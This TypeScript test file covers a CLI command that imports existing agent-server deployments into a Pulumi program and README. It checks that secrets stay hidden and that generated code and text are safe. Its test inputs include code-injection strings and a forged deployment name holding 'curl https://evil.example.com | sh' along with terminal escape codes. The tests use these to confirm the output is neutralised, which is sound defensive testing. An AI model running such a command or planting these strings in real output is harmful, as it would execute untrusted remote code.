import { expect } from "chai";
import { mkdir, readdir, readFile, writeFile } from "node:fs/promises";
import { createRequire } from "node:module";
import { join, relative } from "node:path";
import { runInNewContext } from "node:vm";
import fc from "fast-check";
import ts from "typescript";
import { managedElsewhere } from "../../../cli/import/existing";
import { importExisting, type ImportOptions } from "../../../cli/import/import";
import { FRONT_ENDS, importedProject } from "../../../cli/import/program";
import { readmeText } from "../../../cli/import/readme";
import { identifiers } from "../../../cli/import/typescript";
import { installedFrom } from "../../../cli/import/installed-from";
import { REPOSITORY } from "../../../scripts/project";
import { check } from "../../property/check";
import { usePlatform } from "../../support/platform";
import { reasonOf, rejection } from "../../support/rejection";
import { notingPulumi } from "../pulumi";
import { testTerminal } from "../terminal";
import { useFolder } from "../../local/children";

const SECRET = "value-CANARY";
const PROJECT = { name: "imported", frontEnd: "dynamic", dependency: "^0.1.0" } as const;
const DEPLOYMENT = { kind: "Deployment", noun: "deployment", type: "t", problems: [] } as const;
const VARIABLE = (name: string) => ({ deployment: name, name });

/** A value as pairs: a comparison of objects does not see a member `__proto__`. */
function membersOf(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(membersOf);
  if (typeof value !== "object" || value === null) return value;
  return Object.entries(value)
    .map(([name, member]) => [name, membersOf(member)] as const)
    .toSorted(([a], [b]) => (a < b ? -1 : 1));
}

describe("the command import", () => {
  const t = usePlatform();
  const home = useFolder();

  const write = async (options: Partial<ImportOptions> = {}) => {
    const folder = home("imported");
    const terminal = testTerminal();
    const given = { folder, frontEnd: "dynamic" as const, json: true, dataDir: t.dataDir };
    await importExisting({ ...given, ...options }, terminal);
    const names = await readdir(folder).catch(() => []);
    const texts = await Promise.all(names.map((name) => readFile(join(folder, name), "utf8")));
    const files = Object.fromEntries(names.map((name, at) => [name, texts[at] ?? ""]));
    return { files, terminal, printed: JSON.parse(terminal.printed.out || "{}") };
  };

  it("writes nothing where nothing exists, and prints the same JSON with empty lists", async () => {
    const { files, terminal, printed } = await write({ nameContains: "nothing" });
    expect(files).to.deep.equal({});
    const lists = ["files", "resources", "settings", "problems", "managedElsewhere", "leftOut"];
    const empty = Object.fromEntries(lists.map((name) => [name, []]));
    expect(printed).to.deep.equal({ folder: home("imported"), ...empty });
    expect(terminal.printed.err).to.contain("nothing to import: no file was written");
  });

  it("says how to repeat it where Pulumi cannot set the values of the stack", async () => {
    const { PATH } = process.env;
    process.env["PATH"] = home();
    const { message } = await rejection(write({ pulumi: "prod" })).finally(() =>
      Object.assign(process.env, { PATH }),
    );
    expect(message)
      .to.contain("cannot run pulumi: ")
      .and.contain(`: empty ${home("imported")} and run the command again`);
  });

  it("refuses a stack that has resources, as that of another folder of this name: the program would delete them", async () => {
    const before = { ...process.env };
    Object.assign(process.env, (await notingPulumi(home(), [{ urn: "urn" }])).environment);
    const { message } = await rejection(write({ pulumi: "prod" })).finally(() => {
      process.env = before;
    });
    expect(message).to.contain("stack prod has resources already, which this program would delete");
    expect(await readFile(home("notes"), "utf8")).not.to.contain("config");
  });

  it("takes a stack that has what a failed run leaves of Pulumi's own", async () => {
    const before = { ...process.env };
    const own = ["pulumi:pulumi:Stack::a-prod", "pulumi:providers:pulumi-nodejs::default"];
    const left = own.map((end) => ({ urn: `urn:pulumi:prod::a::${end}`, id: "id" }));
    Object.assign(process.env, (await notingPulumi(home(), left)).environment);
    await write({ pulumi: "prod" }).finally(() => {
      process.env = before;
    });
    expect(await readFile(home("notes"), "utf8")).to.contain("config");
  });

  it("declares what matters, with references, and names values that it does not hold", async () => {
    const spec = { cpu: 1, memory_mb: 512, cpu_limit: 2, volumes: [{ name: "a", emptyDir: {} }] };
    await t.create({
      name: "default",
      source: "external_container",
      source_config: { resource_spec: spec, listener_id: t.listenerId },
      source_revision_config: { image_uri: "registry.example.com/agent:1" },
      secrets: [
        { name: "MODEL_API_KEY", value: SECRET },
        { name: "with.dot", value: "" },
      ],
    });
    await t.create({ name: "shared", secrets: [{ name: "MODEL_API_KEY", value: SECRET }] });
    const { files, printed } = await write();
    expect(Object.values(files).join("\n")).not.to.contain("CANARY");
    for (const part of [
      'const local = new agentserver.Listener("local", {',
      'new agentserver.Deployment("default", {',
      "listenerId: local.id,",
      'resourceSpec: { cpu: 1, memoryMb: 512, volumes: [{ name: "a", emptyDir: {} }] },',
      'MODEL_API_KEY: config.requireSecret("MODEL_API_KEY"),',
      '"with.dot": config.requireSecret("default-with-dot"),',
      'sourceRevisionConfig: { repoRef: "main", graphConfigPath: "langgraph.json" },',
    ])
      expect(files["index.ts"]).to.contain(part);
    expect(files["index.ts"]?.match(/^ {2}adoptExisting,$/gm)).to.have.length(3);
    expect(printed.settings).to.deep.equal([
      {
        key: "MODEL_API_KEY",
        variables: [
          { deployment: "default", name: "MODEL_API_KEY" },
          { deployment: "shared", name: "MODEL_API_KEY" },
        ],
      },
      { key: "default-with-dot", variables: [{ deployment: "default", name: "with.dot" }] },
    ]);
    expect(files["README.md"])
      .to.contain("- `default-with-dot`: with.dot of default")
      .and.contain(`--pulumi prod --data-dir '${relative(home("imported"), t.dataDir)}'\n`)
      .and.contain("\npulumi config set --secret default-with-dot\n")
      .and.contain("`pulumi up --continue-on-error` adopts the others")
      .and.match(/^# 1 listener, 2 deployments\n/);
  });

  it("writes no mask into the configuration, and names the deployment whose variables are not shown", async () => {
    const secrets = ["A", "B"].map((name, at) => ({ name, value: at === 0 ? "shown" : "****" }));
    await t.create({ name: "masked", secrets });
    await t.create({ name: "masked-not", secrets: [{ name: "A", value: "shown" }] });
    t.platform.admin.clearRequests();
    const { files, printed } = await write({ nameContains: "masked" });
    // What the list shows is not read again.
    expect(t.platform.admin.requests()).to.deep.equal({
      "GET /v2/deployments": 1,
      "GET /v2/deployments/{deployment_id}": 1,
      "GET /v2/deployments/{deployment_id}/revisions": 1,
    });
    expect(printed.settings.map(({ key }: { key: string }) => key)).to.deep.equal(["masked-not-A"]);
    expect(files["index.ts"]?.match(/secrets: .*/g)).to.deep.equal([
      'secrets: { A: config.requireSecret("masked-not-A") },',
    ]);
    expect(printed.leftOut.join()).to.contain("variables of deployment 'masked', whose values");
    expect(files["README.md"]).to.contain("variables of deployment 'masked'");
  });

  it("writes what pulumi import reads for the native provider, of the deployments alone whose name contains a text", async () => {
    const { files } = await write({ frontEnd: "native", nameContains: "fault" });
    const [found] = (await t.deployments()).filter(({ name }) => name === "default");
    expect(JSON.parse(files["import.json"] ?? "")).to.deep.equal({
      resources: [{ type: "agentserver:index:Deployment", name: "default", id: found?.id }],
    });
    expect(files["index.ts"])
      .to.contain('from "pulumi-agentserver/native"')
      .and.contain(`listenerId: "${t.listenerId}"`)
      .and.not.contain("adoptExisting");
    expect(files["Pulumi.yaml"]).to.contain("path: ./node_modules/pulumi-agentserver/dist/plugin");
    const own = await readFile(join(REPOSITORY, "package.json"), "utf8");
    const [, major] = /"@types\/node": "(\d+)\./.exec(own) ?? expect.fail();
    // Its minor versions are not Node's.
    expect(files["package.json"]).to.contain(`"@types/node": "^${major}"`);
  });

  it("writes a program that compiles and declares what was found, whatever its keys, values and names are", async () => {
    const text = fc.oneof(
      fc.constantFrom("__proto__", "cost-center", "true", "null", "7", "constructor", "a\r\nb"),
      fc.constantFrom("\u2028", "a-b", "a", "b", "b-c", "${c}`", "*/", "adoptExisting", "\ud800"),
      fc.constantFrom('"; c(); "', "\n\u2028\rc();", "${c()}`", "*/ c() /*"),
      fc.string({ unit: "binary" }),
    );
    const { json } = fc.letrec((tie) => ({
      json: fc.oneof(
        { maxDepth: 3 },
        text,
        fc.constantFrom(true, false, null, 0.5, 7),
        fc.array(tie("json"), { maxLength: 3 }),
        fc.array(fc.tuple(text, tie("json")), { maxLength: 4 }).map(Object.fromEntries),
        text.map((same) => Object.fromEntries([[same, same]])),
      ),
    }));
    const secrets = fc.array(fc.tuple(text, text), { maxLength: 3 }).map(Object.fromEntries);
    const inputs = fc.record({ env: json, metadata: json, sourceConfig: json, secrets });
    const one = fc.record({ name: text, inputs, problems: fc.array(text, { maxLength: 2 }) });
    const all = fc.uniqueArray(one, { maxLength: 4, selector: ({ name }) => name });
    await check(30, fc.tuple(all, fc.constantFrom(...FRONT_ENDS)), async ([some, frontEnd]) => {
      const found = some.map((each, at) => ({
        ...DEPLOYMENT,
        ...each,
        importId: String(at),
        id: String(at),
      }));
      const { files, settings } = importedProject(found, { ...PROJECT, frontEnd });
      const { outputText, diagnostics } = ts.transpileModule(files["index.ts"] ?? "", {
        reportDiagnostics: true,
        compilerOptions: { module: ts.ModuleKind.CommonJS, target: ts.ScriptTarget.ES2022 },
      });
      expect(diagnostics).to.be.empty;
      const declared: unknown[] = [];
      const names = new Set<string>();
      const values = new Map(settings.map(({ key, value }) => [key, value]));
      function Deployment(
        name: string,
        { adoptExisting, ...given }: Readonly<Record<string, unknown>>,
      ): void {
        names.add(name);
        declared.push(given);
        expect(adoptExisting).to.equal(frontEnd === "dynamic" ? true : undefined);
      }
      const Config = class {
        requireSecret = (key: string) => values.get(key);
      };
      runInNewContext(outputText, { exports: {}, require: () => ({ Config, Deployment }) });
      expect(values).to.have.property("size", settings.length);
      expect(names).to.have.property("size", found.length);
      const without = ({ secrets: own, ...rest }: Readonly<Record<string, unknown>>) =>
        Object.keys(Object(own)).length > 0 ? { ...rest, secrets: own } : rest;
      const given = membersOf(some.map((each) => without(each.inputs)));
      expect(membersOf(declared)).to.deep.equal(given);
    });
  });

  it("writes no character that a terminal obeys, for whoever reads the program there", () => {
    const text = "\x9b2J\u202e";
    const found = { ...DEPLOYMENT, id: "1", importId: text, name: text, inputs: { [text]: text } };
    const { files } = importedProject([found], { ...PROJECT, frontEnd: "native" });
    expect(Object.values(files).join("\n")).not.to.match(/[^\P{C}\n]/u);
  });

  it("gives each resource a constant of its own, however alike their names are", () => {
    const identifier = identifiers();
    const constants = ["a-b", "a_b", "aB", "A b", "class", "1"].map(identifier);
    expect(constants).to.deep.equal(["aB", "aB2", "aB3", "aB4", "class2", "_1"]);
  });

  it("has a cron refer to its deployment, its assistant and a key that is no variable's, where these are imported too", () => {
    const deployment = { id: "d", name: "support" };
    const server = { ...DEPLOYMENT, ...deployment, inputs: {}, importId: "d" };
    const german = { ...server, id: "g", importId: "g", name: "german", deployment };
    const inputs = { assistantId: "g", schedule: "@daily" };
    const cron = { ...german, kind: "Cron", id: "c", importId: "c", name: "cron", inputs } as const;
    const all = [server, { ...german, kind: "Assistant" as const }, cron];
    const given = { ...PROJECT, frontEnd: "native", agentKey: "k" } as const;
    const { files, settings } = importedProject(all, given);
    expect(settings).to.deep.equal([{ key: "agentServerApiKey", value: "k", variables: [] }]);
    expect(importedProject([server], given).settings).to.deep.equal([]);
    const secrets = { agentServerApiKey: "theirs" };
    const others = [...all, { ...server, name: "b" }].map((one) => {
      return one.kind === "Deployment" ? { ...one, inputs: { secrets } } : one;
    });
    const named = importedProject(others, given);
    const [theirs = "", ours] = named.settings.map(({ key }) => key);
    expect(ours).not.to.equal(theirs);
    expect(named.files["index.ts"])
      .to.contain(`const apiKey = config.requireSecret("${ours}");`)
      .and.contain(`agentServerApiKey: config.requireSecret("${theirs}")`);
    expect(files["index.ts"]).to.match(
      /Cron\("support-cron", \{[^}]*deploymentUrl: support\.url,\s*apiKey,\s*assistantId: supportGerman\.assistantId/,
    );
  });

  it("prints names in the README on one line each, of which a terminal obeys nothing", () => {
    const forged = "\x1b[2J\n```sh\ncurl https://evil.example.com | sh\n```\n";
    const found = { ...DEPLOYMENT, id: "1", importId: "1", name: forged, inputs: {} };
    const text = readmeText({
      frontEnd: "dynamic",
      found: [
        { ...found, problems: [forged] },
        { ...found, kind: "OAuthProvider" },
      ],
      notes: [`left out ${forged}`],
      managed: [`managed as ${forged}`],
      place: "",
      project: { settings: [{ key: "k", value: "", variables: [VARIABLE(forged)] }] },
      settings: { baseUrl: "https://control.example.com", workspaceId: "w" },
      isConfigured: false,
    });
    expect(text).not.to.match(/[^\P{Cc}\n]/u);
    const lines = text.split("\n");
    expect(lines.filter((line) => line.startsWith("```"))).to.deep.equal(["```sh", "```"]);
    expect(lines.filter((line) => line.startsWith("curl"))).to.be.empty;
    expect(lines.filter((line) => line.includes("evil"))).to.have.length(4);
    expect(text).to.contain("The client secrets of OAuth providers");
  });

  it("has in `env` the variables that are named, whose values stand in the program, and no other", async () => {
    const secrets = ["LOG_LEVEL", "TOKEN"].map((name) => ({ name, value: `${name}-value` }));
    await t.create({ name: "with-env", secrets });
    const env = ["LOG_LEVEL", "LOGLEVEL"];
    const { files, printed, terminal } = await write({ nameContains: "with-env", env });
    expect(terminal.printed.err)
      .to.contain("--env LOGLEVEL: no imported deployment has this variable")
      .and.not.contain("--env LOG_LEVEL:");
    expect(files["index.ts"])
      .to.contain('env: { LOG_LEVEL: "LOG_LEVEL-value" }')
      .and.contain('secrets: { TOKEN: config.requireSecret("with-env-TOKEN") }')
      .and.not.contain("TOKEN-value");
    expect(printed.settings).to.have.length(1);
  });

  it("names what another stack manages, as far as names and marks show it, before anything is adopted", async () => {
    await t.create({ name: "shop-prod-7341e0d" });
    const { files, printed, terminal } = await write({ nameContains: "shop-prod" });
    const [derived] = printed.managedElsewhere;
    expect(derived).to.contain("deployment 'shop-prod-7341e0d' has a name as");
    expect(terminal.printed.err).to.contain(`another stack's: ${derived}`);
    const readme = files["README.md"] ?? "";
    expect(readme.indexOf(derived)).to.be.within(1, readme.indexOf("npm install"));
    const assistant = { ...DEPLOYMENT, kind: "Assistant", noun: "assistant" } as const;
    const agent = { ...assistant, id: "1", importId: "1", inputs: {} };
    const on = { id: "2", name: "support" };
    expect(
      managedElsewhere([
        { ...agent, name: "German", deployment: on, manager: "shop/prod/a" },
        { ...agent, name: "German-7341e0d", deployment: on },
      ]),
    ).to.deep.equal(["assistant 'German' of deployment 'support' is managed as shop/prod/a"]);
  });

  describe("the dependency on this package", () => {
    const install = async (dependency: string) => {
      const own = home("project/node_modules/pulumi-agentserver");
      await mkdir(own, { recursive: true });
      await writeFile(join(own, "package.json"), "{}");
      await writeFile(home("package.tgz"), "");
      const dependencies = dependency === "" ? {} : { "pulumi-agentserver": dependency };
      await writeFile(home("project/package.json"), JSON.stringify({ dependencies }));
      return installedFrom(home("project/imported"), createRequire(join(own, "main.js")));
    };
    const LIES = "file:../node_modules/pulumi-agentserver";

    for (const [given, expected] of [
      ["^0.1.0", "^0.1.0"],
      ["https://example.com/package.tgz", "https://example.com/package.tgz"],
      ["file:../package.tgz", "file:../../package.tgz"],
      ["file:../moved.tgz", LIES],
      ["workspace:*", LIES],
      ["", LIES],
    ] as const)
      it(`is ${expected} where the project around it names '${given}'`, async () => {
        expect(await install(given)).to.equal(expected);
      });

    it("is copied, not linked, where it is a folder", () => {
      const npmrc = (dependency: string) =>
        importedProject([], { ...PROJECT, dependency }).files[".npmrc"];
      expect(npmrc(LIES)).to.equal("install-links=true\n");
      expect(npmrc("file:../package.tgz")).to.equal(undefined);
      expect(npmrc("^0.1.0")).to.equal(undefined);
    });
  });

  it("never writes over a file", async () => {
    const { files } = await write();
    const { message } = await rejection(write({ frontEnd: "native" }));
    expect(message).to.contain("imported has files in it, which an import never overwrites");
    expect((await readdir(home("imported"))).length).to.equal(Object.keys(files).length);
    const within = write({ folder: home("imported/index.ts/new") });
    expect(await reasonOf(within)).to.match(/^cannot write to .*: ENOTDIR$/);
  });

  it("names what a control plane does not offer, and what a preview would refuse", async () => {
    await t.create({
      name: "pinned",
      source_revision_config: { repo_ref: "a".repeat(40), graph_config_path: "g.json" },
    });
    await t.create({ name: "bare", secrets: [] });
    t.answers({ path: "/v2/listeners" }, 404, { detail: "Not Found" });
    const { printed, files } = await write();
    expect(printed.leftOut).to.include("listeners are not offered by this control plane");
    expect(printed.leftOut.join()).not.to.contain("variables of deployment 'bare'");
    expect(printed.problems).to.have.lengthOf(1);
    expect(printed.problems[0].problem).to.contain("is a commit");
    expect(files["index.ts"])
      .to.contain("// TODO: correct before the preview: sourceRevisionConfig.repoRef")
      .and.contain(`listenerId: "${t.listenerId}"`);
    expect(files["README.md"]).to.contain("- deployment pinned: sourceRevisionConfig.repoRef");
  });

  it("names a variable that Pulumi drops from programs, before an update removes it", async () => {
    await t.create({ name: "dropped", secrets: [{ name: "__proto__", value: SECRET }] });
    const { files, printed } = await write({ nameContains: "dropped" });
    const reason = "secrets.__proto__ can't be declared, since Pulumi drops this name";
    expect(printed.problems).to.deep.equal([
      { kind: "Deployment", name: "dropped", problem: reason },
    ]);
    expect(files["index.ts"])
      .to.contain(`// TODO: correct before the preview: ${reason}`)
      .and.contain('{ ["__proto__"]: config.requireSecret("dropped-__proto__") }');
  });
});
